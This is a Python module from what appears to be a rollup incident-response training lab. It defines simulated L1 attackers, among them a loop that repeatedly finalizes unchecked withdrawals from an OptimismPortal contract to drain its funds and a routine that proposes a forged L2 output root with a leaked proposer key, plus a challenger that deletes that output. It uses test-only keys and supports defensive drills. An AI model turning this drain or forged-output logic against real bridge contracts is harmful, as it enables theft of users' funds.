"""The lab's adversaries on L1: the portal drain (exploit) and a conflicting output root (conflicting-output).

They sign real transactions with test-only keys; web3 calls run in a worker thread so the lab's loop keeps
serving while a transaction is mined.
"""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING, Any

from web3 import Web3
from web3.exceptions import ContractLogicError

from jeju_lab.chains import accounts
from jeju_lab.chains.artifacts import lab_artifact
from jeju_lab.chains.transactions import TxBatch
from jeju_lab.sim.logfmt import format_line
from jeju_play.errors import LabError

if TYPE_CHECKING:
    from jeju_lab.world import LabWorld

DRAIN_EVERY_SECONDS = 2.0
DRAIN_WEI = 25 * 10**18


def _contract(w3: Web3, name: str, address: str) -> Any:
    return w3.eth.contract(address=Web3.to_checksum_address(address), abi=lab_artifact(name).abi)


def _send(w3: Web3, sender: accounts.LabAccount, call: Any, gas: int = 400_000) -> Any:
    batch = TxBatch.start(w3, sender.signer())
    batch.send("lab attacker", call.address, call._encode_transaction_data(), gas=gas)
    return batch.wait()[0]


def drain_once(world: LabWorld, nonce: int) -> int:
    """One withdrawal the portal does not check; returns the wei taken (0 when the portal refuses)."""
    w3 = Web3(Web3.HTTPProvider(world.l1_url))
    portal = _contract(w3, "OptimismPortal", world.deployment.optimism_portal)
    amount = min(DRAIN_WEI, w3.eth.get_balance(Web3.to_checksum_address(world.deployment.optimism_portal)))
    if amount == 0:
        return 0
    attacker = accounts.ATTACKER.address
    call = portal.functions.finalizeWithdrawalTransaction((nonce, attacker, attacker, amount, 100_000, b""))
    try:
        call.call({"from": attacker})
    except ContractLogicError:
        return 0
    _send(w3, accounts.ATTACKER, call)
    return int(amount)


async def drain_forever(world: LabWorld) -> None:
    nonce = 1_000_000
    while True:
        nonce += 1
        world.faults.drain_attempts += 1
        try:
            taken = await asyncio.to_thread(drain_once, world, nonce)
        except (LabError, OSError, ValueError) as exc:
            taken = 0
            world.route_log("op-node", format_line("warn", "Lab attacker transaction failed", {"err": str(exc)}))
        world.faults.drained_wei += taken
        await asyncio.sleep(DRAIN_EVERY_SECONDS)


class OutputNotDue(LabError):
    """The oracle's next L2 block is still in the future (or the proposer just took it): try again shortly."""


def conflicting_root(l2_block: int) -> bytes:
    return bytes(Web3.keccak(text=f"jeju-lab conflicting output {l2_block}"))


def propose_conflicting_output(world: LabWorld) -> int:
    """Propose a made-up root at nextBlockNumber() with the proposer key (a leaked key, as the runbook fears).

    Returns the output index; raises OutputNotDue when the oracle cannot take that block yet.
    """
    w3 = Web3(Web3.HTTPProvider(world.l1_url))
    oracle = _contract(w3, "L2OutputOracle", world.deployment.l2_output_oracle)
    next_block = oracle.functions.nextBlockNumber().call()
    due = oracle.functions.computeL2Timestamp(next_block).call()
    if due >= w3.eth.get_block("latest")["timestamp"]:
        raise OutputNotDue(f"conflicting-output: L2 block {next_block} is not due yet on the oracle (due at {due}).")
    call = oracle.functions.proposeL2Output(conflicting_root(next_block), next_block, b"\x00" * 32, 0)
    try:
        call.call({"from": accounts.PROPOSER.address})
        _send(w3, accounts.PROPOSER, call)
    except (ContractLogicError, LabError) as exc:  # the lab's proposer took the block first, or shared nonce
        raise OutputNotDue(f"conflicting-output: proposing L2 block {next_block} failed ({exc}).") from exc
    index = int(oracle.functions.latestOutputIndex().call())
    if bytes(oracle.functions.getL2Output(index).call()[0]) != conflicting_root(next_block):
        raise OutputNotDue(f"conflicting-output: output {index} is not the conflicting one.")
    return index


def delete_outputs_from(world: LabWorld, index: int) -> None:
    """The challenger deletes output `index` and later ones, unless someone already deleted the conflicting one."""
    w3 = Web3(Web3.HTTPProvider(world.l1_url))
    oracle = _contract(w3, "L2OutputOracle", world.deployment.l2_output_oracle)
    if oracle.functions.nextOutputIndex().call() <= index:
        return
    root, _timestamp, l2_block = oracle.functions.getL2Output(index).call()
    if bytes(root) != conflicting_root(int(l2_block)):
        return
    _send(w3, accounts.CHALLENGER, oracle.functions.deleteL2Outputs(index))
